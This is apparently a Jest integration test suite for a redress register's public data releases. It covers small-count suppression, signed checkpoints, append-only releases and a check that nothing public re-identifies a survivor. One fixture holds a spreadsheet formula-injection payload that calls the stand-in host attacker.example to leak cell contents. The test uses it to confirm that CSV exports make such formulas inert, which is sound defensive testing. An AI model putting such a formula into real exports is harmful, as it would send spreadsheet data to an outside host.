/**
 * Published releases over real HTTP, PostgreSQL and Temporal: public figures come only from numbered, immutable
 * releases, and everything an outsider can download is attacked the way someone looking for a survivor would.
 */
import { createHash, createPublicKey, randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { verifyCheckpointSignature } from '../../db/checkpoint';
import { createUser } from '../../api/access/users';
import { DATA_PACKAGE_VERSION, INCIDENTS, INCIDENT_TABLE_IDS, INDICATOR_COLUMNS, TABLE_IDS, columnsOf, columnsOfTable } from '../../domain/release';
import { ensureReleaseSchedule } from '../../worker/release-schedule';
import { type Harness, createHarness, eventually, publishRelease, sampleOrder, startApi } from '../support/harness';
import { runScript } from '../support/processes';

jest.setTimeout(300_000);

let h: Harness;
let api: Awaited<ReturnType<typeof startApi>>;
const tokens: Record<string, string> = {};
const password = 'correct horse battery staple';
const FORMULA_AGENCY = '=HYPERLINK("http://attacker.example/?leak="&A1,"Ministry")';

async function call(method: string, path: string, opts: { as?: string; body?: unknown } = {}) {
  const res = await fetch(`${api.base}${path}`, {
    method,
    headers: { ...(opts.body !== undefined ? { 'content-type': 'application/json' } : {}), ...(opts.as ? { authorization: `Bearer ${tokens[opts.as]}` } : {}) },
    body: opts.body !== undefined ? JSON.stringify(opts.body) : undefined,
  });
  const text = await res.text();
  let body: any = text; // eslint-disable-line @typescript-eslint/no-explicit-any
  try { body = JSON.parse(text); } catch { /* CSV */ }
  return { status: res.status, body, text, headers: res.headers };
}

/** Everything public, as text: what an outsider can collect. */
async function everythingPublic(): Promise<Record<string, string>> {
  const paths = ['/api/public/statistics', '/api/public/checkpoint.json', '/api/public/indicators', '/api/public/data/indicators.csv', '/api/public/agencies', '/api/public/datapackage.json', '/api/releases',
    ...TABLE_IDS.flatMap((t) => [`/api/public/data/${t}.csv`, `/api/public/data/${t}.json`]),
    '/api/public/accountability', ...INCIDENT_TABLE_IDS.map((t) => `/api/public/data/accountability/${t}.csv`)];
  const out: Record<string, string> = {};
  for (const p of paths) out[p] = (await call('GET', p)).text;
  return out;
}

const orders: { court: string; caseNumber: string; survivorRef: string; advocateId: string }[] = [];
async function register(n: number, overrides: Record<string, unknown>) {
  for (let i = 0; i < n; i++) {
    const order = sampleOrder({ survivorRef: `SURV-${randomUUID().slice(0, 8)}`, ...overrides });
    orders.push(order);
    await h.service.register(order, 'achieng');
  }
}

beforeAll(async () => {
  h = await createHarness();
  await h.startWorker();
  api = await startApi(h);
  await createUser(h.db, { id: 'achieng', name: 'Achieng (administrator)', role: 'administrator', password });
  await createUser(h.db, { id: 'wanjiru', name: 'Wanjiru (advocate)', role: 'advocate', advocateId: 'adv-wanjiru', password });
  for (const id of ['achieng', 'wanjiru']) tokens[id] = (await call('POST', '/api/session', { body: { userId: id, password } })).body.token;
  expect((await call('POST', '/api/agencies', { as: 'achieng', body: { id: 'formula-agency', name: FORMULA_AGENCY } })).status).toBe(201);
  await register(20, { judgmentDate: '2017-03-01' });
  await register(8, { respondentAgencyId: 'kenya-prisons-service', judgmentDate: '2018-05-02', violationTypes: ['extra_judicial_killing'] });
  await register(7, { respondentAgencyId: 'formula-agency', judgmentDate: '2018-06-12' });
  await register(1, { respondentAgencyId: 'kenya-defence-forces', judgmentDate: '2019-01-15', violationTypes: ['enforced_disappearance'] });
});
afterAll(async () => {
  await api?.close();
  await h?.close();
});

describe('published releases', () => {
  it('when no release has been published, then every public figure answers 404 and says how one is published', async () => {
    const res = await call('GET', '/api/public/statistics');
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toMatch(/problem\+json/);
    expect(res.body.detail).toMatch(/POST \/api\/releases/);
    expect((await call('GET', '/api/public/data/by_agency.csv')).status).toBe(404);
  });

  it('when an advocate asks to publish, then 403; when an administrator does, then release 1 is published and every public figure comes from it', async () => {
    expect((await call('POST', '/api/releases', { as: 'wanjiru' })).status).toBe(403);
    expect((await call('POST', '/api/releases')).status).toBe(401);
    const res = await call('POST', '/api/releases', { as: 'achieng' });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ outcome: 'published', number: 1, claims: 36 });
    const stats = await call('GET', '/api/public/statistics');
    expect(stats.body.release.number).toBe(1);
    expect(stats.body.totals.orders).toBe(36);
    const agencies = (await call('GET', '/api/public/agencies')).body.items;
    // Each agency's count is its true count or a marker that does not lie about it.
    for (const a of agencies) {
      const truth = Number((await h.db('claims').where({ respondent_agency_id: a.agency_id }).count({ n: '*' }).first())!.n);
      expect([truth, truth <= 5 ? '5 or fewer' : 'hidden']).toContain(a.orders);
    }
    // The defence forces' one order is "5 or fewer" and its money withheld; a larger row is hidden beside it, labelled as such.
    const kdf = agencies.find((a: { agency_id: string }) => a.agency_id === 'kenya-defence-forces');
    expect(kdf.orders).toBe('5 or fewer');
    expect(kdf.awarded_cents).toBe('withheld');
    expect(agencies.filter((a: { orders: unknown }) => a.orders === 'hidden').length).toBeGreaterThanOrEqual(1);
    const list = await call('GET', '/api/releases');
    expect(list.body.items.map((r: { number: number }) => r.number)).toEqual([1]);
  });

  it('when a claim is registered after a release, then no public figure changes until a later release counts it', async () => {
    const before = await everythingPublic();
    await register(1, { judgmentDate: '2017-03-01' });
    await new Promise((r) => setTimeout(r, 1_200)); // past the API's one-second look for a newer release
    expect(await everythingPublic()).toEqual(before);
  });

  it('when 1-5 orders arrived since the last release, then the next release counts none of them; when six are waiting, it counts all six', async () => {
    const held = await call('POST', '/api/releases', { as: 'achieng' });
    expect(held.status).toBe(201);
    expect(held.body).toMatchObject({ number: 2, claims: 36 });
    expect((await call('GET', '/api/public/statistics')).body.totals.orders).toBe(36);
    await register(5, { judgmentDate: '2017-03-01' });
    const counted = await call('POST', '/api/releases', { as: 'achieng' });
    expect(counted.body).toMatchObject({ number: 3, claims: 42 });
    expect((await call('GET', '/api/public/statistics')).body.totals.orders).toBe(42);
  });

  it('when a release is published, then it carries a signed checkpoint of every chain, naming no claim, that verify-chain checks the record against', async () => {
    const { checkpoint, release } = (await call('GET', '/api/public/checkpoint.json')).body;
    expect(release.number).toBe(3);
    // It names no claim and counts none (a count would move with orders not yet in the figures).
    expect(Object.keys(checkpoint.document).sort()).toEqual(['format', 'headsDigest', 'number', 'previousDigest', 'takenAt']);
    expect(verifyCheckpointSignature(checkpoint, createPublicKey(h.checkpointPublicKey))).toMatchObject({ ok: true });
    const dir = mkdtempSync(join(tmpdir(), 'redress-checkpoint-'));
    writeFileSync(join(dir, 'checkpoint.json'), JSON.stringify(checkpoint));
    const verified = await runScript('scripts/verify-chain.ts', ['--checkpoint', join(dir, 'checkpoint.json')], { DATABASE_URL: h.dbUrl, REDRESS_CHECKPOINT_PUBLIC_KEY: h.checkpointPublicKey });
    expect(verified.stdout).toMatch(/0 broken/);
    expect(verified.code).toBe(0);
  });

  it('when the indicators are read, then they come from the release, each value a share, months or rounded money, withheld where 5 or fewer stand behind it', async () => {
    const { body } = await call('GET', '/api/public/indicators');
    expect(body.release.number).toBe(3);
    expect(body.items.length).toBeGreaterThan(10);
    for (const row of body.items) {
      expect(['percent', 'months', 'cents', 'per_100']).toContain(row.unit);
      if (typeof row.value === 'number' && row.unit === 'cents') expect(row.value % 100_000_000).toBe(0);
      if (typeof row.value !== 'number') expect(['withheld', 'no data']).toContain(row.value);
      // No count is published beside a value.
      expect(Object.keys(row)).not.toContain('numerator');
    }
    // Nothing in this register has been paid: the share paid within a year stands on 0 orders, so it is withheld.
    expect(body.items.filter((r: { indicator_id: string }) => r.indicator_id === 'awards_paid_within_12_months').every((r: { value: unknown }) => typeof r.value !== 'number')).toBe(true);
  });

  it('when anyone asks for the old per-claim export, then 410 Gone points to the data package', async () => {
    for (const path of ['/api/public/claims.json', '/api/public/claims.csv']) {
      const res = await call('GET', path);
      expect(res.status).toBe(410);
      expect(res.headers.get('content-type')).toMatch(/application\/problem\+json/);
      expect(res.body.detail).toContain('/api/public/datapackage.json');
      expect(res.headers.get('link')).toContain('/api/public/datapackage.json');
    }
  });

  it('when the data package is read, then every table is described, and each CSV and JSON file follows its Table Schema', async () => {
    const pkg = (await call('GET', '/api/public/datapackage.json')).body;
    expect(pkg.profile).toBe('tabular-data-package');
    expect(pkg['redress:release']).toBe(3);
    expect(pkg.resources.map((r: { path: string }) => r.path)).toEqual([...[...TABLE_IDS, 'indicators'].map((t) => `data/${t}.csv`), ...INCIDENT_TABLE_IDS.map((t) => `data/accountability/${t}.csv`)]);
    for (const resource of pkg.resources) {
      const table = resource.path.slice(5, -4);
      if (table.startsWith('accountability/')) {
        // The accountability tables (this register has no incidents): the CSV's header is the schema's.
        const csv = (await call('GET', `/api/public/${resource.path}`)).text.trimEnd().split('\n');
        const fields = resource.schema.fields as { name: string }[];
        expect(fields.map((f) => f.name)).toEqual(columnsOfTable(INCIDENTS, table.slice('accountability/'.length)));
        expect(csv[0]).toBe(fields.map((f) => f.name).join(','));
        continue;
      }
      const csv = (await call('GET', `/api/public/${resource.path}`)).text.trimEnd().split('\n');
      const fields = resource.schema.fields as { name: string; type: string }[];
      expect(csv[0]).toBe(fields.map((f) => f.name).join(','));
      expect(fields.map((f) => f.name)).toEqual(table === 'indicators' ? INDICATOR_COLUMNS : columnsOf(table));
      const json = (await call('GET', `/api/public/data/${table}.json`)).body;
      expect(json.rows).toHaveLength(csv.length - 1);
      for (const row of json.rows) {
        for (const f of fields) {
          const v = row[f.name];
          if (['integer', 'year'].includes(f.type)) expect(Number.isInteger(v) || resource.schema.missingValues.includes(v)).toBe(true);
          if (f.type === 'number') expect(typeof v === 'number' || v === null || resource.schema.missingValues.includes(v)).toBe(true);
          if (f.name.endsWith('_cents') && Number.isInteger(v)) expect(v % 100_000_000).toBe(0); // rounded, at least to KSh 1 million
        }
      }
    }
    // Its version is the schema's: a second release does not change it.
    expect(pkg.version).toBe(DATA_PACKAGE_VERSION);
  });

  it('when an agency name is a spreadsheet formula, then it comes out inert in every CSV', async () => {
    const csv = (await call('GET', '/api/public/data/by_agency.csv')).text;
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Ministry"")"`);
    for (const table of TABLE_IDS) {
      const text = (await call('GET', `/api/public/data/${table}.csv`)).text;
      for (const line of text.trimEnd().split('\n').slice(1)) {
        for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
      }
    }
  });

  it('when an outsider looks for a survivor, then nothing public names a survivor, advocate, court or case, nor carries a claim id or a hash of one', async () => {
    const claimIds: string[] = (await h.db('claims').pluck('id')) as string[];
    const outputs = await everythingPublic();
    for (const [path, text] of Object.entries(outputs)) {
      for (const o of orders) {
        for (const secret of [o.survivorRef, o.caseNumber, o.court, o.advocateId]) expect({ path, found: text.includes(secret) ? secret : null }).toEqual({ path, found: null });
      }
      for (const id of claimIds) {
        const guesses = [id, createHash('sha256').update(`redress-public:${id}`).digest('hex').slice(0, 12)];
        for (const g of guesses) expect({ path, found: text.includes(g) ? g : null }).toEqual({ path, found: null });
      }
    }
    // No row is one order: every published order count in every table is 0, 6 or more, or a marker.
    for (const table of TABLE_IDS) {
      for (const row of JSON.parse(outputs[`/api/public/data/${table}.json`]!).rows) {
        expect(row.orders === 0 || row.orders > 5 || ['5 or fewer', 'hidden'].includes(row.orders)).toBe(true);
      }
    }
  });

  it('when an administrator audits each release (npm run audit-release), then the attack recovers no hidden figure, within or between releases', async () => {
    for (const n of ['1', '2', '3']) {
      const out = await runScript('scripts/audit-release.ts', [n], { DATABASE_URL: h.dbUrl });
      expect(out.stderr).toBe('');
      expect(out.stdout).toMatch(new RegExp(`release ${n} .* 0 recovered; 0 rule\\(s\\) broken`));
      expect(out.code).toBe(0);
    }
  });

  it('when two administrators publish at the same moment, then the releases get distinct, consecutive numbers, and a release cannot be altered or removed', async () => {
    await register(6, { judgmentDate: '2020-02-02' });
    const before = (await call('GET', '/api/releases')).body.items[0].number as number;
    const both = await Promise.all([call('POST', '/api/releases', { as: 'achieng' }), call('POST', '/api/releases', { as: 'achieng' })]);
    expect(both.map((r) => r.status).sort()).toEqual([201, 201]);
    expect(both.map((r) => r.body.number).sort()).toEqual([before + 1, before + 2]);
    // The six new orders are counted once, by the first of the two.
    expect(both.map((r) => r.body.claims).sort()).toEqual([48, 48]);
    await expect(h.db('releases').where({ number: before + 1 }).update({ tables: '{}' })).rejects.toThrow(/append-only/);
    await expect(h.db('releases').where({ number: before + 1 }).delete()).rejects.toThrow(/append-only/);
    await expect(h.db.raw('TRUNCATE releases')).rejects.toThrow(/append-only/);
  });

  it('when the release schedule fires, then the schedule publishes a release; ensuring the schedule again only updates its timetable', async () => {
    const scheduleId = `test-release-${randomUUID()}`;
    await ensureReleaseSchedule(h.env.client, { taskQueue: h.taskQueue, cron: '0 3 * * *', scheduleId });
    await ensureReleaseSchedule(h.env.client, { taskQueue: h.taskQueue, cron: '15 2 * * *', scheduleId });
    const handle = h.env.client.schedule.getHandle(scheduleId);
    try {
      const [calendar] = (await handle.describe()).spec.calendars ?? [];
      expect([calendar?.hour?.[0]?.start, calendar?.minute?.[0]?.start]).toEqual([2, 15]);
      await register(6, { judgmentDate: '2021-02-02' });
      await handle.trigger();
      const release = await eventually(() => h.db('releases').where({ trigger: 'schedule' }).first(), (r) => Boolean(r), 60_000);
      expect(release.claims).toBe(54);
    } finally {
      await handle.delete();
    }
  });
});

describe('published releases from the workflow', () => {
  it('when the same build request is retried, then it returns the release it published and publishes nothing twice', async () => {
    const { releaseWorkflowId } = await import('../../workflows/release/messages');
    const key = releaseWorkflowId(randomUUID());
    await register(6, { judgmentDate: '2022-02-02' });
    const first = await h.env.client.workflow.execute('releaseWorkflow', { taskQueue: h.taskQueue, workflowId: `${key}-a`, args: [{ trigger: 'administrator', requestKey: key }] });
    const again = await h.env.client.workflow.execute('releaseWorkflow', { taskQueue: h.taskQueue, workflowId: `${key}-b`, args: [{ trigger: 'administrator', requestKey: key }] });
    expect(again).toEqual(first);
    expect(Number((await h.db('releases').where({ request_key: key }).count({ n: '*' }).first())!.n)).toBe(1);
    expect((await publishRelease(h)).outcome).toBe('published');
  });
});
